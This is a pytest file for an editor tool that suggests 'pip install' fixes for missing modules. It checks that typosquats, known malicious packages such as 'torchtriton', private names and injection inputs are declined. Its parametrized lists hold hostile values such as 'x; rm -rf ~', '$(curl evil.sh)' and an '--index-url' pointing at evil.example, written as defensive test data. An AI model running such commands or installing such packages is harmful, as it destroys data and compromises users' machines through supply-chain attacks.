"""`pip install` suggestions: only names errfix knows, never typosquats, malicious or private names,
never anything a shell or pip could read as more than one package name; always unsafe, never
preferred, the exact command in the title.

The errors are matched by the real KB from real `ModuleNotFoundError` output, so the captures are
what the server would hand to the fixer.
"""

from __future__ import annotations

import re
import subprocess
import sys

import pytest
from lsprotocol import types

from errfix_lsp.fixers import pip_install_missing_module as pip_fixer
from errfix_lsp.fixers import run_fixer
from errfix_lsp.fixers._migrate_pip_names import DISTRIBUTIONS, KNOWN_MALICIOUS, WELL_KNOWN, normalize
from errfix_lsp.fixers.base import Declined, Fix, FixRequest
from errfix_lsp.server.actions import ActionOptions, Document, FixCache, Target, build_actions

PIP = "pip-install-missing-module"


def suggest(module: str):
    return run_fixer(
        PIP, FixRequest(source="", captures={"module": module}, entry_id="python/module-not-found")
    )


def real_capture(engine, module_text: str) -> str | None:
    """The `module` capture the KB takes from Python's real message for `import <module_text>`."""
    done = subprocess.run(
        [sys.executable, "-c", f"import importlib; importlib.import_module({module_text!r})"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "ModuleNotFoundError" in done.stderr, done.stderr
    found = engine.matcher.match_text(done.stderr.strip().splitlines()[-1])
    hits = [m for m in found if m.entry.id == "python/module-not-found"]
    return hits[0].captures.get("module") if hits else None


@pytest.mark.parametrize(
    ("module", "distribution"),
    [
        ("cv2", "opencv-python"),
        ("sklearn", "scikit-learn"),
        ("PIL", "Pillow"),
        ("yaml", "PyYAML"),
        ("bs4", "beautifulsoup4"),
        ("torch", "torch"),
    ],
)
def test_known_import_names_get_their_distribution_as_an_unsafe_command(module, distribution):
    result = suggest(module)
    assert isinstance(result, Fix) and result.command == f"pip install {distribution}"
    assert result.safety == "unsafe" and not result.preferred and result.unsafe_because


@pytest.mark.parametrize(
    ("module", "near"),
    [
        ("reqeusts", "requests"),
        ("numpyy", "numpy"),
        ("pandsa", "pandas"),
        ("tensorflw", "tensorflow"),
        ("scikit_lern", "scikit-learn"),
        ("matplotlb", "matplotlib"),
        ("beautifulsoup", "beautifulsoup4"),
    ],
)
def test_typosquats_of_popular_names_are_declined_with_the_name_meant(module, near):
    result = suggest(module)
    assert isinstance(result, Declined) and "misspelling" in result.reason and f"'{near}'" in result.reason


@pytest.mark.parametrize("module", ["torchtriton", "colourama", "jeIlyfish", "python3_dateutil", "ctx"])
def test_known_malicious_names_are_never_suggested(module):
    result = suggest(module)
    assert isinstance(result, Declined)
    assert "malicious" in result.reason or "misspelling" in result.reason


@pytest.mark.parametrize(
    "module",
    [
        "acme_internal",
        "internal_billing",
        "corp_ml_utils",
        "mycompany.private.models",
        "_secret",
        "teamtools",
        "frobnicate_widgets",
        "setup",
        "utils",
        "src",
    ],
)
def test_private_and_unknown_names_are_not_invitations_to_dependency_confusion(module):
    assert isinstance(suggest(module), Declined)


@pytest.mark.parametrize(
    "module",
    [
        "x; rm -rf ~",
        "$(curl evil.sh)",
        "`id`",
        "--index-url=https://evil.example/simple",
        "-e",
        "-e git+https://evil.example/x",
        "requests --extra-index-url https://evil.example",
        "a|b",
        "numpy && id",
        "pkg\nrm -rf /",
        "../../etc",
        "requests==1.0",
        "torch'",
        "-r requirements.txt",
    ],
)
def test_shell_metacharacters_and_options_never_reach_the_command(module):
    assert isinstance(suggest(module), Declined)


def test_real_messages_with_hostile_names_give_no_command(engine):
    """What Python prints for hostile names, matched by the real KB: no command, or only the
    harmless prefix the pattern could capture (and that is declined too)."""
    for text in ["x; rm -rf ~", "$(id)", "--index-url", "reqeusts", "torchtriton"]:
        capture = real_capture(engine, text)
        if capture is not None:
            assert isinstance(suggest(capture), Declined), (text, capture)


def test_every_command_in_the_tables_is_a_plain_package_name():
    names = {d for d in DISTRIBUTIONS.values() if d} | set(WELL_KNOWN)
    for name in names:
        assert re.fullmatch(r"[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?", name), name
        assert normalize(name) not in KNOWN_MALICIOUS


def test_names_this_environment_installed_from_an_index_are_suggested(tmp_path, monkeypatch):
    """A real distribution's metadata on sys.path; one installed from a local path (direct_url.json)
    or with a private-looking name is not suggested."""
    site = tmp_path / "site"
    site.mkdir()

    def install(dist: str, module: str, direct: bool = False) -> None:
        info = site / f"{dist.replace('-', '_')}-1.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n")
        (info / "top_level.txt").write_text(module + "\n")
        (info / "RECORD").write_text("")
        if direct:
            (info / "direct_url.json").write_text('{"url": "file:///home/me/src", "dir_info": {}}')
        (site / module).mkdir()
        (site / module / "__init__.py").write_text("")

    install("zorblax-toolkit", "zorblax")
    install("quuxfoo-sdk", "quuxfoo", direct=True)
    install("acme-internal-sdk", "acmesdk")
    monkeypatch.syspath_prepend(str(site))
    pip_fixer._packages_distributions.cache_clear()
    try:
        result = suggest("zorblax")
        assert isinstance(result, Fix) and result.command == "pip install zorblax-toolkit"
        assert result.safety == "unsafe" and "environment errfix runs in" in result.note
        assert isinstance(suggest("quuxfoo"), Declined)
        assert isinstance(suggest("acmesdk"), Declined)
    finally:
        pip_fixer._packages_distributions.cache_clear()


def test_the_code_action_is_unsafe_never_preferred_and_names_the_command(engine):
    entry = engine.kb.get("python/module-not-found")
    doc = Document("file:///w/a.py", "/w/a.py", "import cv2\n", 1, True)
    target = Target(entry, {"module": "cv2"}, 1, None)
    actions = build_actions([target], doc, ActionOptions(resolve_edits=True), FixCache())
    [run] = [a for a in actions if a.command and a.command.command == "errfix.runInTerminal"]
    assert run.command.arguments == ["pip install opencv-python"]
    assert "pip install opencv-python" in run.title and "unsafe" in run.title
    assert not run.is_preferred and run.edit is None
    assert run.kind == types.CodeActionKind.QuickFix
